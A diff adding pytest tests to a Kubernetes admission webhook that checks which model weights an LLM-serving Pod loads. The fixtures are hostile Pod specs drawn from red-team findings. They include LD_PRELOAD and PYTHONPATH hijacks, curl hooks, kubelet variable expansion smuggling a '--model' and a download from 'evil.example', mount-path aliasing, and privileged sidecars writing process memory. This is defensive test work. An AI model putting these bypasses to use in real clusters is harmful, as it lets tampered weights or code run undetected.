@@ -11,10 +11,11 @@ import pytest
 
 from modelseal.attest.verdict import Mode
 from modelseal.operator.admission.decision import AdmissionDecision, decide
+from modelseal.operator.admission.verdicts import ModelVerdict
 from modelseal.operator.decide.loaded_files import LoadedFile, LoadedFiles
 from modelseal.operator.podverify.container import NAME
 from tests.operator.podverify.shapes import CURL, IMAGE, cache_key, cached_pod, mutated, pvc_pod, review
-from tests.operator.podverify.test_mutation import FOLDER, NS, SOURCE, VERDICTS, A, lookup, services
+from tests.operator.podverify.test_mutation import FOLDER, NS, SERVICES, SOURCE, VERDICTS, A, lookup, services
 
 Pod = dict[str, Any]
 MODEL_PATH = f"/models/{cache_key(SOURCE)}/one.gguf"
@@ -173,6 +174,7 @@ def test_the_model_argument_is_what_gets_checked_wherever_it_points() -> None:
         (["-md", "/models/x/d.gguf"], "the draft '/models/x/d.gguf' is neither a draft Model"),
         (["--hf-repo", "org/evil"], "loads --hf-repo 'org/evil'"),
         (["--trust-remote-code"], "--trust-remote-code runs Model ml/one's Python code, and none is attested"),
+        (["--trust-remote"], "--trust-remote-code runs Model ml/one's Python code, and none is attested"),
     ],
 )  # fmt: skip
 def test_a_runtime_given_unchecked_weights_is_refused(extra: list[str], said: str) -> None:
@@ -238,7 +240,12 @@ def test_a_subpath_and_a_mount_nested_in_the_models_are_seen_by_the_verifier_too
     }
     pod["spec"]["containers"][0]["volumeMounts"].append(nested)
     pod = mutated(pod, NS, lookup, services)
-    assert verifier(pod)["volumeMounts"] == [nested]  # the file is seen through the nested mount only
+    # the file is seen through the nested mount; the one above it is the verifier's too (a writer of
+    # a folder above could move the mount point), in the runtime's order
+    assert verifier(pod)["volumeMounts"] == [
+        {"name": "model-cache", "mountPath": "/models", "readOnly": True},
+        nested,
+    ]
     assert judge(pod).allowed
 
 
@@ -330,3 +337,295 @@ def test_an_ephemeral_container_writing_the_model_volume_is_refused() -> None:
     )
     after["spec"]["ephemeralContainers"][0]["volumeMounts"][0]["readOnly"] = True
     assert _update(before, after, "ephemeralcontainers").allowed
+
+
+def test_a_pod_labelled_into_a_service_after_its_creation_is_judged() -> None:
+    """The red team's attack: a Pod created without LLMKube's labels is never sent to the webhooks
+    (no verifier, any --model), then an UPDATE adds inference.llmkube.dev/service and it joins the
+    InferenceService's Service. The spec is unchanged, so the UPDATE was allowed as metadata only."""
+    unlabelled = cached_pod(NS, "svc", "one", SOURCE)
+    unlabelled["spec"]["containers"][0]["args"][1] = "/models/x/evil.gguf"
+    unlabelled["metadata"]["labels"] = {"app": "svc"}
+    labelled = copy.deepcopy(unlabelled)
+    labelled["metadata"]["labels"] = cached_pod(NS, "svc", "one", SOURCE)["metadata"]["labels"]
+    denied = _update(unlabelled, labelled)
+    assert not denied.allowed and f"the Pod has no {NAME} init container" in denied.message, denied.message
+    moved = good()  # verified for Model one through svc, then relabelled to serve Model draft
+    relabelled = copy.deepcopy(moved)
+    relabelled["metadata"]["labels"]["inference.llmkube.dev/model"] = "draft"
+    denied = _update(moved, relabelled)
+    assert not denied.allowed and "field args differs" in denied.message, denied.message
+    kept = copy.deepcopy(moved)
+    kept["metadata"]["labels"]["app"] = "other"  # no label the rule judges changed
+    kept["metadata"]["finalizers"] = ["x"]
+    assert _update(moved, kept).allowed
+    unlabelled_again = copy.deepcopy(moved)
+    del unlabelled_again["metadata"]["labels"]["inference.llmkube.dev/service"]
+    del unlabelled_again["metadata"]["labels"]["inference.llmkube.dev/model"]
+    assert _update(moved, unlabelled_again).allowed  # leaving the Service is no risk
+
+
+def _second_runtime(pod: Pod) -> None:
+    """A second llama-server beside the checked one, given no flag: envFrom sets LLAMA_ARG_HF_REPO."""
+    other = copy.deepcopy(pod["spec"]["containers"][0])
+    other.update(name="other", args=["--port", "9090"], envFrom=[{"configMapRef": {"name": "vars"}}])
+    pod["spec"]["containers"].append(other)
+
+
+def _runtime_env(name: str, value: str) -> Callable[[Pod], None]:
+    def add(pod: Pod) -> None:
+        pod["spec"]["containers"][0]["env"] = [{"name": name, "value": value}]
+
+    return add
+
+
+def _hook(pod: Pod) -> None:
+    """A postStart hook runs in the runtime's container as vLLM imports its modules."""
+    pod["spec"]["containers"][0]["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl ..."]}}}
+
+
+def _working_dir(pod: Pod) -> None:
+    """python3 -m sglang.launch_server puts its working folder first on sys.path: a torch.py planted on
+    the Model's claim there shadows the real one."""
+    pod["spec"]["containers"][0]["workingDir"] = "/model-source"
+
+
+def _exec_probe(pod: Pod) -> None:
+    pod["spec"]["containers"][0]["startupProbe"] = {"exec": {"command": ["sh", "-c", "curl ..."]}}
+
+
+@pytest.mark.parametrize(
+    ("tamper", "said"),
+    [
+        (_second_runtime, "container 'other' takes envFrom, which can set the runtime's weight and code variables"),
+        (_runtime_env("VLLM_ALLOW_RUNTIME_LORA_UPDATING", "true"),
+         "sets VLLM_ALLOW_RUNTIME_LORA_UPDATING: lets any client of the vLLM server load a LoRA adapter"),
+        (_runtime_env("LD_PRELOAD", "/models/x/evil.so"),
+         "sets LD_PRELOAD: the dynamic loader loads a library it names into the runtime"),
+        (_runtime_env("PYTHONPATH", "/models/x"), "sets PYTHONPATH: Python imports modules"),
+        (_hook, "container 'llama-server' runs a command (lifecycle.postStart.exec) in the serving container"),
+        (_exec_probe, "container 'llama-server' runs a command (startupProbe.exec) in the serving container"),
+        (_working_dir, "container 'llama-server' runs in '/model-source': Python run with -m"),
+    ],
+)  # fmt: skip
+def test_a_pod_that_loads_code_or_weights_beside_the_checked_runtime_is_refused(
+    tamper: Callable[[Pod], None], said: str
+) -> None:
+    """Red team 2: each was admitted on the previous commit (envFrom was counted only on the container
+    given --model, the Pod's env only for LLAMA_ARG_*, hooks and exec probes not at all)."""
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    tamper(pod)
+    decision = judge(mutated(pod, NS, lookup, services))
+    assert not decision.allowed and said in decision.message, decision.message
+    warned = judge(mutated(pod, NS, lookup, services, allow=True), allow_weight_paths=True)
+    assert warned.allowed and said in warned.warnings[0], warned
+
+
+def _expanded(extra: list[str], env: list[dict[str, Any]]) -> Pod:
+    pod = cached_pod(NS, "svc", "one", SOURCE, extra=extra)
+    pod["spec"]["containers"][0]["env"] = env
+    return mutated(pod, NS, lookup, services)
+
+
+SECRET = {"valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
+
+
+@pytest.mark.parametrize(
+    ("extra", "env", "said"),
+    [
+        # the kubelet passes "--model /tmp/evil.gguf -mu https://...": llama.cpp downloads and serves it
+        (["$(A)", "/tmp/evil.gguf", "$(B)", "https://evil.example/e.gguf"],
+         [{"name": "A", "value": "--model"}, {"name": "B", "value": "-mu"}], "the runtime is given 2 model paths"),
+        (["--lo$(X)", "/models/x/a.gguf"], [{"name": "X", "value": "ra"}], "loads --lora '/models/x/a.gguf'"),
+        (["$(B)", "/models/x/a.gguf"], [{"name": "A", "value": "--lora"}, {"name": "B", "value": "$(A)"}],
+         "loads --lora '/models/x/a.gguf'"),
+        (["$(A)", "org/evil"], [{"name": "A", **SECRET}], "is given '$(A)': the kubelet fills $(NAME) in"),
+        (["--$(A)"], [], "is given '--$(A)': the kubelet fills $(NAME) in"),
+        (["--port", "8080", "$(KUBERNETES_PORT)"], [], "is given '$(KUBERNETES_PORT)'"),
+    ],
+)  # fmt: skip
+def test_arguments_are_read_as_the_kubelet_passes_them(
+    extra: list[str], env: list[dict[str, Any]], said: str
+) -> None:
+    """Red team 2: the kubelet expands $(NAME) in a container's args; the webhook read them as written,
+    so a weight flag or a second --model assembled from the environment was admitted."""
+    decision = judge(_expanded(extra, env))
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+def test_the_model_path_is_the_expanded_one_and_the_verifier_is_given_it_literally() -> None:
+    env = [{"name": "DIR", "value": f"/models/{cache_key(SOURCE)}"}, {"name": "KEY", **SECRET}]
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["args"][1] = "$(DIR)/one.gguf"
+    pod["spec"]["containers"][0]["args"] += ["--api-key=$(KEY)"]  # a hidden value of a written-out flag
+    pod["spec"]["containers"][0]["env"] = env
+    pod = mutated(pod, NS, lookup, services)
+    assert judge(pod).allowed and verifier(pod)["args"][-1] == MODEL_PATH
+    dollar = cached_pod(NS, "svc", "one", SOURCE)
+    dollar["spec"]["containers"][0]["args"][1] = (
+        f"/models/{cache_key(SOURCE)}/$$(X).gguf"  # llama.cpp gets $(X)
+    )
+    dollar = mutated(dollar, NS, lookup, services)
+    assert judge(dollar).allowed
+    assert (
+        verifier(dollar)["args"][-1] == f"/models/{cache_key(SOURCE)}/$$(X).gguf"
+    )  # so verify-files gets $(X)
+
+
+def _filled(pod: Pod, volume: str = "scratch") -> None:
+    """An emptyDir an init container before the verifier fills with the attacker's bytes."""
+    pod["spec"]["volumes"].append({"name": volume, "emptyDir": {}})
+    pod["spec"]["initContainers"].insert(0, {"name": "fill", "image": CURL, "command": ["sh", "-c", "curl ..."],
+                                             "volumeMounts": [{"name": volume, "mountPath": "/s"}]})  # fmt: skip
+
+
+def _second_loader(pod: Pod) -> None:
+    """A second llama-server given the same --model, but with the filled emptyDir at /models."""
+    _filled(pod)
+    other = copy.deepcopy(pod["spec"]["containers"][0])
+    other.update(name="other", volumeMounts=[{"name": "scratch", "mountPath": "/models", "readOnly": True}])
+    pod["spec"]["containers"].append(other)
+
+
+def _alias_mount(where: str, first: bool = False) -> Callable[[Pod], None]:
+    """The filled emptyDir mounted where the container runtime resolves it to /models: the runtime
+    sees whichever it mounts last; the verifier was given /models only."""
+
+    def add(pod: Pod) -> None:
+        _filled(pod)
+        mounts = pod["spec"]["containers"][0]["volumeMounts"]
+        mounts.insert(0 if first else len(mounts), {"name": "scratch", "mountPath": where, "readOnly": True})
+
+    return add
+
+
+def _ancestor(pod: Pod) -> None:
+    """The cache's folder mounted by subPath under an emptyDir a regular container writes: it can
+    rename the folder (mount point and all) and put a symlink in its place once the runtime starts."""
+    _filled(pod)
+    key = cache_key(SOURCE)
+    pod["spec"]["containers"][0]["volumeMounts"] = [
+        {"name": "scratch", "mountPath": "/models", "readOnly": True},
+        {"name": "model-cache", "mountPath": f"/models/{key}", "subPath": key, "readOnly": True},
+    ]
+    pod["spec"]["containers"].append({"name": "swapper", "image": CURL,
+                                      "volumeMounts": [{"name": "scratch", "mountPath": "/s"}]})  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("tamper", "said"),
+    [
+        (_second_loader, "2 containers ('llama-server', 'other') are given weight paths"),
+        (_alias_mount("//models"), "container 'llama-server' mounts two volumes at '/models'"),
+        (_alias_mount("/./models"), "container 'llama-server' mounts two volumes at '/models'"),
+        (_alias_mount("/models/", first=True), "container 'llama-server' mounts two volumes at '/models'"),
+        (_ancestor, "container 'swapper' mounts the model volume 'scratch' writable"),
+    ],
+)
+def test_a_runtime_that_sees_other_files_than_the_verifier_is_refused(
+    tamper: Callable[[Pod], None], said: str
+) -> None:
+    """Red team 2: each was admitted on the previous commit. The verifier was placed under the mounts
+    of the first container given --model, compared mount paths as strings (the container runtime
+    cleans them), sorted them by path (the runtime's order decides which of two at one place wins),
+    and took no mount above the one covering the file."""
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    tamper(pod)
+    decision = judge(mutated(pod, NS, lookup, services))
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+def test_a_model_path_with_two_leading_slashes_is_refused() -> None:
+    decision = judge(
+        _args("--model", f"//models/{cache_key(SOURCE)}/one.gguf", "--port", "8080", replace=True)
+    )
+    assert not decision.allowed and "is not an absolute, normalised path" in decision.message
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        {"nfs": {"server": "nfs.example", "path": "/exports/llmkube-model-cache"}},
+        {
+            "csi": {
+                "driver": "nfs.csi.k8s.io",
+                "volumeAttributes": {"server": "nfs.example", "share": "/exports"},
+            }
+        },
+        {"iscsi": {"targetPortal": "10.0.0.1:3260", "iqn": "iqn.2001-04.com.example:cache", "lun": 0}},
+    ],
+)
+def test_storage_named_directly_and_written_beside_the_runtime_is_refused(source: dict[str, Any]) -> None:
+    """Red team 2: the NFS export (or CSI, iSCSI volume) behind the cache claim, mounted writable by a
+    sidecar under another name, could swap a file after the check; only a host path counted before."""
+    pod = good()
+    pod["spec"]["volumes"].append({"name": "backing", **source})
+    _sidecar(False, "backing")(pod)
+    decision = judge(pod)
+    assert not decision.allowed
+    assert "container 'swapper' mounts the model volume 'backing' writable" in decision.message
+    pod = good()
+    pod["spec"]["volumes"].append({"name": "scratch", "emptyDir": {}})
+    _sidecar(False, "scratch")(pod)
+    assert judge(pod).allowed  # the Pod's own scratch space reaches no claim
+
+
+def _shared(field: str) -> Callable[[Pod], None]:
+    def share(pod: Pod) -> None:
+        pod["spec"][field] = True
+
+    return share
+
+
+def _admin(pod: Pod) -> None:
+    """A sidecar that mounts the cache read-only, as allowed, but may remount it writable."""
+    pod["spec"]["containers"].append({"name": "agent", "image": CURL,
+                                      "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}},
+                                      "volumeMounts": [{"name": "model-cache", "mountPath": "/c", "readOnly": True}]})  # fmt: skip
+
+
+def _privileged(pod: Pod) -> None:
+    pod["spec"]["containers"].append(
+        {"name": "agent", "image": CURL, "securityContext": {"privileged": True}}
+    )
+
+
+@pytest.mark.parametrize(
+    ("tamper", "said"),
+    [
+        (_shared("shareProcessNamespace"), "the Pod sets shareProcessNamespace: its other containers can reach the runtime's memory"),
+        (_shared("hostPID"), "the Pod sets hostPID"),
+        (_privileged, "container 'agent' is privileged: it can remount a read-only volume writable"),
+        (_admin, "container 'agent' adds CAP_SYS_ADMIN: it can remount a read-only volume writable"),
+    ],
+)  # fmt: skip
+def test_a_container_that_can_reach_the_runtime_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
+    """Red team 2: a sidecar sharing the runtime's process namespace writes /proc/PID/mem (busybox dd in
+    the curl image will do, where ptrace is not restricted: the runtime runs without capabilities), so
+    the weights it loaded change after the check; a privileged one can mount the node's disks. Both
+    were admitted, for a verified Model and for an image-bound one alike."""
+    pod = good()
+    tamper(pod)
+    decision = judge(pod)
+    assert not decision.allowed and said in decision.message, decision.message
+    image = "registry.example/m@sha256:" + "e" * 64
+    VERDICTS["image"] = ModelVerdict(1, True, "admitted", loaded=LoadedFiles(image=image))
+    SERVICES["image"] = {"modelRef": "image"}
+    try:
+        pod = cached_pod(NS, "image", "image", SOURCE)
+        pod["spec"]["initContainers"] = []
+        pod["spec"]["volumes"] = [{"name": "model-cache", "image": {"reference": image}}]
+        assert judge(pod).allowed
+        tamper(pod)
+        decision = judge(pod)
+        assert not decision.allowed and said in decision.message, decision.message
+    finally:
+        del VERDICTS["image"], SERVICES["image"]
+
+
+def test_the_runtime_itself_may_be_privileged() -> None:
+    """An InferenceService's spec.securityContext is the runtime's: privileged, it still loads what its
+    arguments name (the verifier checked)."""
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
+    assert judge(mutated(pod, NS, lookup, services)).allowed
